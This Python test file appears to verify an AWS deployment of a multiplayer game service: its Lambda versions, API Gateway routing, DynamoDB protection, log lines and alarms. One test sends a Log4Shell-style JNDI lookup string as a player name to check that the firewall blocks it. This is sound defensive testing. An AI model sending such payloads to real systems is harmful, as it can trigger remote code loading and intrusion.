"""What is seen only from inside the account: versions, sweeps, deliveries, logs, and that nothing was set aside."""

from itertools import chain

import pytest

from tests.at_table import Person, refused, table
from tests.aws.doors import Door, eventually
from tools.lambda_python import NAME

pytestmark = [pytest.mark.aws, pytest.mark.account]

SHORTEST_S = 60  # of a time limit
SWEPT_WITHIN_S, LOGGED_WITHIN_S = 150, 180
STOPPED = {"preset": "none", "clue_s": SHORTEST_S, "cards_s": SHORTEST_S, "votes_s": SHORTEST_S}


def resources(stack, kind):
    pages = stack.client("cloudformation").get_paginator("list_stack_resources").paginate(StackName=stack.name)
    every = chain.from_iterable(page["StackResourceSummaries"] for page in pages)
    return [one["PhysicalResourceId"] for one in every if one["ResourceType"] == kind]


def item(stack, game):
    """The game as it is stored, without asking the service, which would bring it up to date."""
    key = {"pk": {"S": f"GAME#{game.href.rpartition('/')[2]}"}, "sk": {"S": "STATE"}}
    table_name = stack.outputs["TableName"]
    return stack.client("dynamodb").get_item(TableName=table_name, Key=key, ConsistentRead=True)["Item"]


def test_every_function_runs_on_the_python_that_the_package_is_for(stack):
    functions = stack.client("lambda")
    names = resources(stack, "AWS::Lambda::Function")
    assert len(names) >= 4
    told = {name: functions.get_function_configuration(FunctionName=name)["Runtime"] for name in names}
    assert set(told.values()) == {NAME}, told


def test_players_are_answered_by_one_published_version(stack):
    functions, name = stack.client("lambda"), stack.outputs["ApiFunctionName"]
    alias = functions.get_alias(FunctionName=name, Name="live")
    assert alias["FunctionVersion"].isdecimal()
    assert not alias.get("RoutingConfig", {}).get("AdditionalVersionWeights")
    versions = [one["Version"] for one in functions.list_versions_by_function(FunctionName=name)["Versions"]]
    assert len([version for version in versions if version != "$LATEST"]) <= 2


def test_the_gateway_calls_the_alias_everywhere(stack):
    gateway, api = stack.client("apigateway"), stack.outputs["RestAPIId"]
    pages = gateway.get_paginator("get_resources").paginate(restApiId=api, embed=["methods"])
    methods = [method for page in pages for one in page["items"] for method in one.get("resourceMethods", {}).values()]
    called = [uri for method in methods if (uri := method.get("methodIntegration", {}).get("uri"))]
    assert called
    assert [uri for uri in called if not uri.endswith(":live/invocations")] == []


def test_the_api_is_at_one_stage_only(stack):
    stages = stack.client("apigateway").get_stages(restApiId=stack.outputs["RestAPIId"])["item"]
    assert [stage["stageName"] for stage in stages] == ["api"]
    assert Door(stack.gateway()).get("/api/v1/health").status_code == 200
    assert Door(stack.gateway()).get("/Stage/v1/health").status_code in {403, 404}


def test_a_text_that_the_firewall_takes_for_an_attack_is_refused_for_good(stack):
    if stack.parameter("Firewall") != "true":
        pytest.skip("this stack has no firewall: its parameter Firewall is false")
    answer = Person(Door(f"{stack.gateway()}/api")).post("/v1/players", {"name": "${jndi:ldap://example.org/a}"})
    refused(answer, 403, "text-refused")
    assert answer.headers["Access-Control-Allow-Origin"] == "*"
    assert "Retry-After" not in answer.headers


def test_what_is_kept_is_protected(stack):
    dynamodb, name = stack.client("dynamodb"), stack.outputs["TableName"]
    described = dynamodb.describe_table(TableName=name)["Table"]
    backups = dynamodb.describe_continuous_backups(TableName=name)["ContinuousBackupsDescription"]
    (deployed,) = stack.client("cloudformation").describe_stacks(StackName=stack.name)["Stacks"]
    kept = stack.parameter("KeepData") == "true"
    assert backups["PointInTimeRecoveryDescription"]["PointInTimeRecoveryStatus"] == "ENABLED"
    assert described.get("DeletionProtectionEnabled", False) is kept
    assert deployed.get("EnableTerminationProtection", False) is kept


def test_a_timeout_happens_though_nobody_looks(distribution, stack):
    game = table(distribution, 3, "classic", options={"first_storyteller": "host"}, pace=STOPPED)
    before = item(stack, game)["state"]
    eventually(lambda: item(stack, game)["state"] != before, SHORTEST_S + SWEPT_WITHIN_S)


def test_a_request_has_its_line_in_the_log(distribution, stack):
    game = table(distribution, 3, "classic")
    logs, group = stack.client("logs"), stack.named("ApiLog")
    wanted = f'{{ $.game = "{game.href.rpartition("/")[2]}" }}'
    eventually(lambda: logs.filter_log_events(logGroupName=group, filterPattern=wanted)["events"], LOGGED_WITHIN_S)


def test_nothing_was_set_aside_and_no_alarm_is_on(stack):
    """After the tests above."""
    s3, queues, alarms = stack.client("s3"), stack.client("sqs"), stack.client("cloudwatch")
    assert s3.list_objects_v2(Bucket=stack.outputs["FailedRecordsBucketName"]).get("Contents", []) == []
    counted = queues.get_queue_attributes(
        QueueUrl=stack.named("NotDelivered"), AttributeNames=["ApproximateNumberOfMessages"]
    )
    assert counted["Attributes"]["ApproximateNumberOfMessages"] == "0"
    names = resources(stack, "AWS::CloudWatch::Alarm")
    assert names
    found = alarms.describe_alarms(AlarmNames=names[:100])["MetricAlarms"]
    assert [one["AlarmName"] for one in found if one["StateValue"] == "ALARM"] == []
